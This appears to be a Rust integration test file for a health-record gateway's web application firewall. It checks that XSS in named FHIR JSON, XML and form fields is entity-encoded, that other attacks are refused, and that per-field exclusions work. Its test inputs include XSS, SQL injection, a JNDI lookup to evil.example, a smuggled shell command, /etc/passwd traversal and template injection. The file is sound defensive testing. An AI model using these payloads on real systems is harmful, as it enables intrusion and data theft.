#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design
//! Neutralising named fields through the real gateway (R-WAF-4): on a `neutralise` route the
//! named JSON, form and narrative fields reach the upstream rewritten by the fixed rules,
//! every other byte as sent; the rewrite is in the access record and announced to both sides
//! (`PHR-Neutralised`); an attack outside the named fields is still refused. Per-field
//! exclusions lift a rule in one field only. The evaluation tool counts a neutralised case
//! as detected. A file sent inline in the same body is disarmed beside them (R-WAF-2).

mod support;

use support::*;

const EXTRA: &str = r#"
[[routes]]
id = "diary"
methods = ["POST", "PUT"]
path = "/diary/{*rest}"
upstream = "backend"
category = "public"
anonymous = true
inspect = "neutralise"
neutralise = ["note.text", "comment", "text.div"]

[[routes]]
id = "profile"
methods = ["GET", "POST"]
path = "/profile/{*rest}"
upstream = "backend"
category = "public"
anonymous = true
inspect_exclude = ["xss@body:bio", "sqli@query:q"]
"#;

async fn setup() -> Harness {
    Harness::start(EXTRA).await
}

/// One request with a body of `content_type` (none when empty).
async fn send(s: &Harness, method: &str, path: &str, content_type: &str, body: &str) -> Reply {
    let headers: &[(&str, &str)] = if content_type.is_empty() {
        &[]
    } else {
        &[("content-type", content_type)]
    };
    s.send(method, path, headers, body).await
}

#[tokio::test(flavor = "multi_thread")]
async fn named_fields_are_rewritten_recorded_and_announced_r_waf_4() {
    let s = setup().await;
    let body = r#"{"resourceType":"Observation","note":[{"text":"<script>alert('x')</script> 血糖 < 100"},{"text":"ok ＜ｂ＞"}],"valueQuantity":{"value":5.60,"unit":"%"},"text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p onmouseover=\"steal()\">HbA1c<br/></p><script>x()</script></div>"}}"#;
    let reply = send(&s, "POST", "/diary/1", "application/fhir+json", body).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.headers["phr-neutralised"], "note.text, text.div");
    let seen = s.forwarded("/diary/1");
    assert_eq!(seen.headers["phr-neutralised"], "note.text, text.div");
    let sent = String::from_utf8(seen.body.to_vec()).unwrap();
    assert_eq!(
        sent,
        r#"{"resourceType":"Observation","note":[{"text":"&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; 血糖 &lt; 100"},{"text":"ok &#xFF1C;ｂ&#xFF1E;"}],"valueQuantity":{"value":5.60,"unit":"%"},"text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>HbA1c<br/></p></div>"}}"#,
        "only the named fields changed; key order and numbers kept"
    );
    assert_eq!(
        seen.headers["content-length"].to_str().unwrap(),
        sent.len().to_string()
    );
    let record = s.record(&reply);
    assert_eq!(record["decision"], "allow");
    assert_eq!(
        record["changes"],
        serde_json::json!(["neutralised:note.text", "neutralised:text.div"])
    );
    assert!(
        record["rules"].to_string().contains("xss-"),
        "the rules that fired are recorded: {record}"
    );

    // A form field, by name.
    let reply = send(
        &s,
        "POST",
        "/diary/2",
        "application/x-www-form-urlencoded",
        "comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&mood=good",
    )
    .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(
        &s.forwarded("/diary/2").body[..],
        b"comment=%26lt%3Bimg+src%3Dx+onerror%3Dalert%281%29%26gt%3B&mood=good"
    );

    // Nothing special in the named fields: forwarded byte for byte, nothing recorded.
    // A client's own `PHR-Neutralised` claim does not reach the backend.
    let plain = r#"{"note": [{"text": "118/76 mmHg, 朝食後"}]}"#;
    let reply = s
        .client()
        .await
        .send(
            "PUT",
            "/diary/3",
            &[
                ("content-type", "application/json"),
                ("phr-neutralised", "note.text"),
            ],
            plain,
        )
        .await
        .unwrap();
    assert_eq!(reply.status, 200);
    assert!(reply.headers.get("phr-neutralised").is_none());
    let seen = s.forwarded("/diary/3");
    assert_eq!(&seen.body[..], plain.as_bytes());
    assert!(
        seen.headers.get("phr-neutralised").is_none(),
        "a spoofed claim was forwarded"
    );
    assert!(s.record(&reply).get("changes").is_none());
}

/// A file sent inline is disarmed (R-WAF-2) and a named field neutralised in the same body:
/// both changes reach the upstream, both are announced.
#[tokio::test(flavor = "multi_thread")]
async fn an_inline_file_is_disarmed_beside_a_neutralised_field_r_waf_2_r_waf_4() {
    use base64::Engine as _;
    let s = setup().await;
    let mut png = Vec::new();
    {
        let mut encoder = png::Encoder::new(&mut png, 2, 2);
        encoder.set_color(png::ColorType::Rgb);
        encoder
            .add_text_chunk("Comment".into(), "patient: Yamada Taro".into())
            .unwrap();
        let mut writer = encoder.write_header().unwrap();
        writer.write_image_data(&[90u8; 2 * 2 * 3]).unwrap();
    }
    let b64 = base64::engine::general_purpose::STANDARD;
    let body = format!(
        r#"{{"resourceType":"Media","note":[{{"text":"<b>rash</b> 2cm"}}],"content":{{"contentType":"image/png","data":"{}"}},"height":2}}"#,
        b64.encode(&png)
    );
    let reply = send(&s, "POST", "/diary/photo", "application/fhir+json", &body).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.headers["phr-neutralised"], "content.data, note.text");
    let seen = s.forwarded("/diary/photo");
    let sent: serde_json::Value = serde_json::from_slice(&seen.body).unwrap();
    assert_eq!(sent["note"][0]["text"], "&lt;b&gt;rash&lt;/b&gt; 2cm");
    let cleaned = b64
        .decode(sent["content"]["data"].as_str().unwrap())
        .unwrap();
    assert!(
        !cleaned.windows(4).any(|w| w == b"tEXt"),
        "the text chunk survived"
    );
    let mut reader = png::Decoder::new(std::io::Cursor::new(cleaned))
        .read_info()
        .expect("the rebuilt PNG decodes");
    let mut pixels = vec![0; reader.output_buffer_size().unwrap()];
    reader.next_frame(&mut pixels).unwrap();
    assert_eq!(pixels[0], 90);
    let changes = s.record(&reply)["changes"].to_string();
    assert!(
        changes.contains("disarmed:content.data:png:tEXt"),
        "{changes}"
    );
    assert!(changes.contains("neutralised:note.text"), "{changes}");
}

/// A named multipart part that is a FHIR document with a file inside: the file is disarmed
/// and the part still neutralised (its markup was let through on the strength of that).
#[tokio::test(flavor = "multi_thread")]
async fn a_named_part_is_neutralised_when_its_files_are_disarmed_too_r_waf_2_r_waf_4() {
    use base64::Engine as _;
    let s = setup().await;
    let mut png = Vec::new();
    {
        let mut encoder = png::Encoder::new(&mut png, 1, 1);
        encoder.set_color(png::ColorType::Rgb);
        encoder
            .add_text_chunk("Comment".into(), "patient: Yamada Taro".into())
            .unwrap();
        let mut writer = encoder.write_header().unwrap();
        writer.write_image_data(&[90u8; 3]).unwrap();
    }
    let document = format!(
        r#"{{"resourceType":"Media","note":[{{"text":"<b>rash</b>"}}],"content":{{"contentType":"image/png","data":"{}"}}}}"#,
        base64::engine::general_purpose::STANDARD.encode(&png)
    );
    let body = format!(
        "--b\r\nContent-Disposition: form-data; name=\"comment\"\r\nContent-Type: application/json\r\n\r\n{document}\r\n--b--\r\n"
    );
    let reply = send(
        &s,
        "POST",
        "/diary/part",
        "multipart/form-data; boundary=b",
        &body,
    )
    .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let seen = String::from_utf8(s.forwarded("/diary/part").body.to_vec()).unwrap();
    assert!(!seen.contains("<b>"), "markup forwarded: {seen}");
    assert!(seen.contains("&lt;b&gt;"), "{seen}");
    let changes = s.record(&reply)["changes"].to_string();
    assert!(
        changes.contains("disarmed:comment/content.data:png:tEXt"),
        "{changes}"
    );
    assert!(changes.contains("neutralised:comment"), "{changes}");
}

/// The same fields in FHIR's XML form: each value rewritten in place, escaped again for XML
/// so that the backend's parser reads the entities the JSON form carries; every other byte
/// as sent. (Before the XML body was parsed, its findings named no field and were refused.)
#[tokio::test(flavor = "multi_thread")]
async fn named_fields_in_an_xml_body_are_rewritten_r_waf_4() {
    let s = setup().await;
    let body = r#"<?xml version="1.0" encoding="UTF-8"?><Observation xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><p onmouseover="steal()">HbA1c<br/></p><script>x()</script></div></text><note><text value="&lt;script&gt;alert('x')&lt;/script&gt; 血糖 &lt; 100"/></note><note><text value="ok"/></note><valueQuantity><value value="5.60"/></valueQuantity></Observation>"#;
    let reply = send(&s, "POST", "/diary/x1", "application/fhir+xml", body).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.headers["phr-neutralised"], "note.text, text.div");
    let sent = String::from_utf8(s.forwarded("/diary/x1").body.to_vec()).unwrap();
    assert_eq!(
        sent,
        r#"<?xml version="1.0" encoding="UTF-8"?><Observation xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><p>HbA1c<br/></p></div></text><note><text value="&amp;lt;script&amp;gt;alert(&amp;#x27;x&amp;#x27;)&amp;lt;/script&amp;gt; 血糖 &amp;lt; 100"/></note><note><text value="ok"/></note><valueQuantity><value value="5.60"/></valueQuantity></Observation>"#
    );
    assert_eq!(
        s.record(&reply)["changes"],
        serde_json::json!(["neutralised:note.text", "neutralised:text.div"])
    );
    // Text content of a named element (`comment`, not FHIR's form) likewise; an attack in
    // another field is refused and nothing is forwarded.
    let reply = send(
        &s,
        "POST",
        "/diary/x2",
        "application/xml",
        "<r><comment>a <![CDATA[<b>]]> &amp; b</comment></r>",
    )
    .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(
        String::from_utf8(s.forwarded("/diary/x2").body.to_vec()).unwrap(),
        "<r><comment>a &amp;lt;b&amp;gt; &amp;amp; b</comment></r>"
    );
    let reply = send(
        &s,
        "POST",
        "/diary/x3",
        "application/fhir+xml",
        r#"<Observation xmlns="http://hl7.org/fhir"><note><text value="ok"/></note><code><text value="&lt;script&gt;alert(1)&lt;/script&gt;"/></code></Observation>"#,
    )
    .await;
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(s.upstream.requests().iter().all(|r| r.path != "/diary/x3"));
    // XML that does not parse cannot have its named fields rewritten: refused, not forwarded
    // with the markup the field held.
    let reply = send(
        &s,
        "POST",
        "/diary/x4",
        "application/fhir+xml",
        r#"<Observation><note><text value="&lt;b&gt;bold&lt;/b&gt;"/></note></Observatio>"#,
    )
    .await;
    assert_eq!(reply.status, 400, "{reply:?}");
    assert_eq!(reply.json()["reason"], "protocol.malformed_body");
    assert!(s.upstream.requests().iter().all(|r| r.path != "/diary/x4"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_attack_outside_the_named_fields_is_refused_r_waf_4() {
    let s = setup().await;
    for (content_type, body) in [
        (
            "application/json",
            r#"{"note":[{"text":"fine"}],"valueString":"1' OR '1'='1' --"}"#,
        ),
        (
            "application/x-www-form-urlencoded",
            "comment=hi&mood=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ),
        // Inside a named field, what entity encoding leaves as it was: a lookup a Java
        // backend's logger expands, a shell command, a traversal, a template.
        (
            "application/json",
            r#"{"note":[{"text":"${jndi:ldap://evil.example/a}"}]}"#,
        ),
        ("application/json", r#"{"note":[{"text":"ok\nid\n"}]}"#),
        (
            "application/x-www-form-urlencoded",
            "comment=..%2F..%2F..%2Fetc%2Fpasswd",
        ),
        (
            "application/json",
            r#"{"note":[{"text":"{{7*7}}{{config.items()}}"}]}"#,
        ),
    ] {
        let reply = send(&s, "POST", "/diary/4", content_type, body).await;
        assert_eq!(reply.status, 403, "{body}: {reply:?}");
        assert_eq!(reply.json()["reason"], "inspect.blocked");
    }
    // And in the head: only body fields are neutralised.
    let reply = send(
        &s,
        "POST",
        "/diary/4?x=%3Cscript%3Ealert(1)%3C/script%3E",
        "",
        "",
    )
    .await;
    assert_eq!(reply.status, 403);
    assert!(s.upstream.requests().is_empty(), "an attack was forwarded");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_exclusion_lifts_a_rule_in_one_field_only() {
    let s = setup().await;
    let json = "application/json";
    let ok = send(
        &s,
        "POST",
        "/profile/me",
        json,
        r#"{"bio":"I write <script> tutorials"}"#,
    )
    .await;
    assert_eq!(ok.status, 200, "{ok:?}");
    let refused = send(
        &s,
        "POST",
        "/profile/me",
        json,
        r#"{"name":"<script>alert(1)</script>"}"#,
    )
    .await;
    assert_eq!(refused.json()["reason"], "inspect.blocked");
    let ok = send(&s, "GET", "/profile/x?q=1%27%20OR%20%271%27%3D%271", "", "").await;
    assert_eq!(ok.status, 200, "{ok:?}");
    let refused = send(
        &s,
        "GET",
        "/profile/x?other=1%27%20OR%20%271%27%3D%271",
        "",
        "",
    )
    .await;
    assert_eq!(refused.json()["reason"], "inspect.blocked");
}

/// `explain` runs a body through the proxy's own body step: for each body, the proxy's
/// answer and record and explain's line agree on decision, reason, rules and changes.
#[tokio::test(flavor = "multi_thread")]
async fn explain_judges_bodies_as_the_proxy_does() {
    let s = setup().await;
    let cases = [
        // Neutralised in a named field: allowed, the change named.
        (
            "/diary/10",
            "application/json",
            r#"{"note":[{"text":"<script>alert(1)</script>"}]}"#,
        ),
        // An attack outside the named fields: refused.
        (
            "/diary/11",
            "application/json",
            r#"{"note":[{"text":"fine"}],"valueString":"1' OR '1'='1' --"}"#,
        ),
        // Excluded in one field, refused in another.
        (
            "/profile/me",
            "application/json",
            r#"{"bio":"I write <script> tutorials"}"#,
        ),
        (
            "/profile/me",
            "application/json",
            r#"{"name":"<script>alert(1)</script>"}"#,
        ),
        // Deeper than the JSON depth limit.
        ("/profile/deep", "application/json", &"[".repeat(200)),
        // A plain note: nothing to say.
        (
            "/diary/12",
            "application/json",
            r#"{"note":[{"text":"118/76 mmHg, 朝食後"}]}"#,
        ),
    ];
    let mut requests = Vec::new();
    for (path, content_type, body) in cases {
        let reply = send(&s, "POST", path, content_type, body).await;
        let record = s.record(&reply);
        requests.push(serde_json::json!({
            "method": "POST",
            "path": path,
            "headers": [["content-type", content_type]],
            "body": body,
        }));
        let explained = &explain(&s.gateway.policy_path, &requests)[requests.len() - 1];
        assert_eq!(
            explained["status"], reply.status,
            "{path} {body}: {explained}"
        );
        let recorded = record["reason"].as_str().unwrap_or("allow");
        assert_eq!(explained["reason"], recorded, "{body}: {explained}");
        // Both leave an empty list out.
        let list = |v: &serde_json::Value, key: &str| v.get(key).cloned().unwrap_or_default();
        for key in ["rules", "changes"] {
            assert_eq!(list(explained, key), list(&record, key), "{key}: {body}");
        }
    }
    // The verdicts themselves, so that agreeing on nothing cannot pass.
    let all = explain(&s.gateway.policy_path, &requests);
    let reasons: Vec<_> = all.iter().map(|e| e["reason"].clone()).collect();
    assert_eq!(
        reasons,
        [
            "allow",
            "inspect.blocked",
            "allow",
            "inspect.blocked",
            "protocol.json_too_deep",
            "allow"
        ]
    );
    assert_eq!(
        all[0]["changes"],
        serde_json::json!(["neutralised:note.text"])
    );
    assert!(all[1]["rules"].to_string().contains("sqli"), "{}", all[1]);
}

#[test]
fn neutralise_settings_are_checked_at_load() {
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new(dir.path(), "server");
    for (bad, expected) in [
        ("inspect = \"neutralise\"", "needs the fields to rewrite"),
        (
            "neutralise = [\"note\"]",
            "rewritten only with `inspect = \"neutralise\"`",
        ),
        ("inspect_exclude = [\"xss@body\"]", "`@body` names no field"),
    ] {
        let extra = format!(
            "\n[[routes]]\nid = \"r\"\nmethods = [\"POST\"]\npath = \"/r\"\nupstream = \"backend\"\ncategory = \"public\"\nanonymous = true\n{bad}\n"
        );
        let text = policy(&pki, 8443, 8081, "", &extra);
        let line = text.lines().position(|l| l == bad).unwrap() + 1;
        assert_policy_error(dir.path(), &text, line, expected);
    }
}

#[test]
fn the_evaluation_tool_reads_the_policy_and_counts_neutralised_cases() {
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new(dir.path(), "server");
    let policy_path = dir.path().join("policy.toml");
    std::fs::write(&policy_path, policy(&pki, 8443, 8081, "", EXTRA)).unwrap();
    let corpus = dir.path().join("cases.jsonl");
    let cases = [
        // Neutralised on /diary: detected, not refused.
        r#"{"id":"n1","class":"xss","expect":"block","method":"POST","path":"/diary/1","headers":[["content-type","application/json"]],"body":"{\"comment\":\"<script>alert(1)</script>\"}"}"#,
        // Excluded on /profile: passes, so a miss.
        r#"{"id":"m1","class":"sqli","expect":"block","method":"GET","path":"/profile/x?q=1%27%20OR%20%271%27%3D%271"}"#,
        // No route matches: the default settings refuse it.
        r#"{"id":"d1","class":"sqli","expect":"block","method":"GET","path":"/nowhere?q=1%27%20OR%20%271%27%3D%271"}"#,
        r#"{"id":"b1","class":"benign","expect":"allow","method":"GET","path":"/profile/x?q=tokyo"}"#,
    ];
    std::fs::write(&corpus, cases.join("\n")).unwrap();
    let run = |policy: Option<&std::path::Path>| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_phr-gateway"));
        command.args(["inspect", "eval", "--format", "json"]);
        if let Some(p) = policy {
            command.arg("--policy").arg(p);
        }
        let out = command.arg(&corpus).output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    let with_policy = run(Some(&policy_path));
    assert_eq!(with_policy["classes"]["xss"]["tp"], 1, "{with_policy}");
    assert_eq!(with_policy["classes"]["sqli"]["tp"], 1, "{with_policy}");
    assert_eq!(with_policy["classes"]["sqli"]["fn"], 1, "{with_policy}");
    assert_eq!(with_policy["classes"]["benign"]["tn"], 1, "{with_policy}");
    let defaults = run(None);
    assert_eq!(defaults["classes"]["sqli"]["tp"], 2, "{defaults}");
}
